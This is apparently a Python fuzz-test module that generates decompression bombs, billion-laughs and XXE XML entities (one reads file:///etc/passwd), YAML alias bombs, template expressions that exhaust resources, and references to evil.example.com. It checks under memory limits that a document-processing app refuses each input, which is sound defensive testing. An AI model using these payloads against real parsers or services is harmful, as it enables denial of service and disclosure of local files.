"""Inputs that are small and want to become large, deep, or endless: read in a process that may not have much memory.

`python -m tests.fuzz.bombs` reads all of them and says a line of JSON for each: how long it took, how much memory the
process has had so far, and what the user reads.
"""

from __future__ import annotations

import gzip
import io
import json
import resource
import sys
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from itertools import pairwise

from tests.compare.documents import WORD, agreement, pack, unpack
from tests.fuzz import files, sources
from tests.fuzz.judging import Harness, judge
from tests.fuzz.targets import TARGETS

ROOM = 700 << 20
"""Bytes of memory that reading may take beyond what the process has with all libraries loaded."""

SECONDS = 6.0
"""Processor time: some are unpacked up to what is allowed before they are refused."""

_MAIN = "word/document.xml"
_SHEET = "xl/worksheets/sheet1.xml"


def laughs(root: str, *, external: bool = False) -> str:
    """Entities of entities, or one that asks for a file of the machine."""
    if external:
        return f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><{root}>&a;</{root}>'
    levels = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]><{root}>&a9;</{root}>'


def aliases(levels: int) -> bytes:
    """Lists of lists, each twice the one before."""
    names = [f"k{level}" for level in range(levels)]
    lines = [f"{new}: &{new} [*{old}, *{old}]" for old, new in pairwise(names)]
    return "\n".join(["k0: &k0 [x, x]", *lines]).encode()


def with_part(content: bytes, name: str, part: str | Iterable[bytes]) -> bytes:
    """A package with a part added, or in the place of the one that was there."""
    buffer = io.BytesIO(pack({one: text for one, text in unpack(content).items() if one != name}))
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(name, "w") as file,
    ):
        for piece in [part.encode()] if isinstance(part, str) else part:
            file.write(piece)
    return buffer.getvalue()


def with_body(content: bytes, markup: str) -> bytes:
    """A Word file that says only this."""
    head = f'<w:document xmlns:w="{WORD}"><w:body>'
    return with_part(content, _MAIN, f"{head}{markup}</w:body></w:document>")


def with_relation(content: bytes, kind: str, target: str) -> bytes:
    """A Word file whose text refers to something outside."""
    name = "word/_rels/document.xml.rels"
    address = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rIdX" Type="{address}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return with_part(content, name, str(unpack(content)[name], "utf-8").replace("</Relationships>", one))  # type: ignore[arg-type]


def blanks(megabytes: int, before: bytes = b"", after: bytes = b"", piece: bytes = b" " * (1 << 20)) -> Iterator[bytes]:
    """That much of nothing, a piece at a time."""
    yield before
    for _ in range(megabytes):
        yield piece
    yield after


def packed(pieces: Iterable[bytes]) -> bytes:
    """A packed file."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=1, mtime=0) as file:
        for piece in pieces:
            file.write(piece)
    return buffer.getvalue()


def many_parts(count: int) -> bytes:
    """A package of nothing but parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(count):
            archive.writestr(f"word/{number}.xml", "<a/>")
    return buffer.getvalue()


def tagged(tags: str) -> bytes:
    """A Word template with these words."""
    return with_body(files.word_seeds()[0], f"<w:p><w:r><w:t>{tags}</w:t></w:r></w:p>")


def page(body: str) -> bytes:
    """A page template with this body."""
    return f'<html lang="en"><head><title>x</title></head><body>{body}</body></html>'.encode()


def _deep(opening: str, closing: str, depth: int) -> str:
    return opening * depth + closing * depth


def _xlsx() -> bytes:
    return sources.workbook_seeds()[0]


def _sent() -> bytes:
    return agreement()


def _template() -> bytes:
    return files.word_seeds()[0]


BOMBS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "aliases of aliases": ("yaml", lambda: aliases(24)),
    "a list in a list in a list": ("yaml", lambda: b"kind: policy\na: " + b"[" * 200_000),
    "an endless source": ("yaml", lambda: b"kind: policy\na: " + b"x" * 2_000_000),
    "a hundred thousand keys": (
        "yaml",
        lambda: b"kind: policy\n" + b"".join(b"k%d: 1\n" % number for number in range(40_000)),
    ),
    "a line without end": ("csv", lambda: b"x" * (40 << 20)),
    "a quotation without end": ("csv", lambda: sources.delimited_seeds()[0] + b'"' + b"x\n" * (1 << 20)),
    "a million columns": ("csv", lambda: b"," * 1_000_000),
    "zeros for a table": ("csv", lambda: bytes(20 << 20)),
    "a packed log of blanks": ("xes", lambda: packed(blanks(100, b"<log>", b"</log>"))),
    "entities in a log": ("xes", lambda: laughs("log").encode()),
    "a log that asks for a file": ("xes", lambda: laughs("log", external=True).encode()),
    "a deep log": ("xes", lambda: _deep("<log>", "</log>", 300_000).encode()),
    "an attribute without end": ("xes", lambda: b'<log a="' + b"x" * (20 << 20) + b'"/>'),
    "a sheet of blanks": ("xlsx", lambda: with_part(_xlsx(), _SHEET, blanks(120, b"<worksheet>", b"</worksheet>"))),
    "words of blanks": ("xlsx", lambda: with_part(_xlsx(), "xl/sharedStrings.xml", blanks(120, b"<sst><si><t>"))),
    "a cell far away": (
        "xlsx",
        lambda: with_part(
            _xlsx(),
            _SHEET,
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1048576">'
            '<c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>',
        ),
    ),
    "entities in a sheet": ("xlsx", lambda: with_part(_xlsx(), _SHEET, laughs("worksheet"))),
    "a template of blanks": ("word-template", lambda: with_part(_template(), "word/styles.xml", blanks(60, b"<a>"))),
    "pictures of zeros": (
        "word-template",
        lambda: with_part(_template(), "word/media/x.png", blanks(300, piece=bytes(1 << 20))),
    ),
    "entities in a template": ("word-template", lambda: with_part(_template(), _MAIN, laughs("w:document"))),
    "a template with macros": ("word-template", lambda: with_part(_template(), "word/vbaProject.bin", "x")),
    "a template from elsewhere": (
        "word-template",
        lambda: with_relation(_template(), "attachedTemplate", "https://evil.example.com/x.dotm"),
    ),
    "a power": ("word-template", lambda: tagged("{{ 9 ** 999999999 }}")),
    "a long word": ("word-template", lambda: tagged("{{ 'x' * 999999999999 }}")),
    "a power in a page": ("page-template", lambda: page("{{ 9 ** 999999999 }}")),
    "a long word in a page": ("page-template", lambda: page("{{ [0] * 99999999999 }}")),
    "an address on this machine": ("page-template", lambda: page('<img alt="x" src="file:///etc/passwd">')),
    "an address elsewhere": ("page-template", lambda: page('<img alt="x" src="https://evil.example.com/x.png">')),
    "entities in a drawing": ("drawing", lambda: laughs("svg").encode()),
    "a returned file of blanks": ("returned", lambda: with_part(_sent(), "word/styles.xml", blanks(60, b"<a>"))),
    "a returned file of parts": ("returned", lambda: many_parts(5000)),
    "entities in a returned file": ("returned", lambda: with_part(_sent(), _MAIN, laughs("w:document"))),
    "a returned file that asks for a file": (
        "returned",
        lambda: with_part(_sent(), _MAIN, laughs("w:document", external=True)),
    ),
    "a deep returned file": (
        "returned",
        lambda: with_body(_sent(), _deep("<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>", 3000)),
    ),
    "a million paragraphs": ("returned", lambda: with_body(_sent(), "<w:p/>" * 1_600_000)),
}
"""What it is -> the input it comes as, and its bytes; each has to be refused."""


def main() -> None:
    """Read all of them, or those named."""
    for target in {name for name, _ in BOMBS.values()}:
        tuple(TARGETS[target].harness(TARGETS[target].seeds()[0]))
    asked = sys.argv[1:] or list(BOMBS)
    with open("/proc/self/statm", encoding="ascii") as sizes:  # noqa: PTH123 - no file of anybody's
        now = int(sizes.read().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (now + ROOM, now + ROOM))
    for name in asked:
        content = BOMBS[name][1]()
        print(json.dumps({"bomb": name, **_read(TARGETS[BOMBS[name][0]].harness, content)}), flush=True)  # noqa: T201


def _read(harness: Harness, content: bytes) -> Mapping[str, object]:
    started = time.process_time()
    try:
        problems = judge(harness, content, SECONDS)
        said = {"errors": [str(one) for one in problems if one.severity == "error"]}
    except BaseException as mistake:  # noqa: BLE001 - all of them are told
        said = {"raised": [f"{type(mistake).__name__}: {mistake}"[:300]]}
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10
    return {**said, "seconds": round(time.process_time() - started, 2), "size": len(content), "peak": peak}


if __name__ == "__main__":
    main()
